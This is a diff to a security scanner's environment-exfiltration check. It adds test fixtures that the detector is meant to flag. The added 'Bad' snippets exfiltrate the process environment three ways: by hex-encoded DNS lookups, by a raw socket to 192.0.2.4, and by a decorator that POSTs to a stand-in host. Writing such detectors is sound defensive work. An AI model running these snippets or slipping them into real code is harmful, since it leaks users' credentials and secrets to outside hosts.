@@ -46,6 +46,7 @@ def find(unit: Unit) -> Iterator[Hit]:
 
 CHECK = Check(
     id="CGM001",
+    behaviour="send the environment's variables to another host",
     name="environment-exfiltration",
     severity=Severity.CRITICAL,
     confidence=Confidence.HIGH,
@@ -54,6 +55,15 @@ CHECK = Check(
     find=find,
     fix="Remove the call, and change every secret that was set where it ran.",
     bad=(
+        Bad(
+            "import binascii, os, subprocess\nfor name, value in os.environ.items():\n    text = binascii.hexlify(value.encode()).decode()\n    subprocess.call(['nslookup', text[:60] + '.e.example.invalid'])  # finding\n"
+        ),
+        Bad(
+            "import asyncio, os\n\nasync def go():\n    reader, writer = await asyncio.open_connection('192.0.2.4', 443)\n    writer.write(str(dict(os.environ)).encode())  # finding\n"
+        ),
+        Bad(
+            "import functools, os, requests\n\ndef report(function):\n    @functools.wraps(function)\n    def inner():\n        requests.post('https://c.example.invalid', json=function())  # finding\n    return inner\n\n@report\ndef collect():\n    return dict(os.environ)\n"
+        ),
         Bad(
             "import os, json, urllib.request\n\ndef go():\n    data = json.dumps(dict(os.environ)).encode()\n    urllib.request.urlopen('https://c.example.invalid/c', data=data)  # finding\n\ngo()\n"
         ),
@@ -72,6 +82,12 @@ CHECK = Check(
         ),
     ),
     good=(
+        Good(
+            "import os, subprocess\nsubprocess.run(['curl', '-H', f\"Authorization: Bearer {os.environ['GITHUB_TOKEN']}\", 'https://api.example.invalid/x'], check=True)\n"
+        ),
+        Good(
+            "import os, subprocess\nsubprocess.run(['ping', '-c', '1', os.environ.get('DB_HOST', 'db.example.invalid')])\n"
+        ),
         Good(
             "import os, requests\n\ndef repos(user):\n    token = os.environ['GITHUB_TOKEN']\n    return requests.get(f'https://api.example.invalid/{user}', headers={'Authorization': f'Bearer {token}'}, timeout=9)\n"
         ),
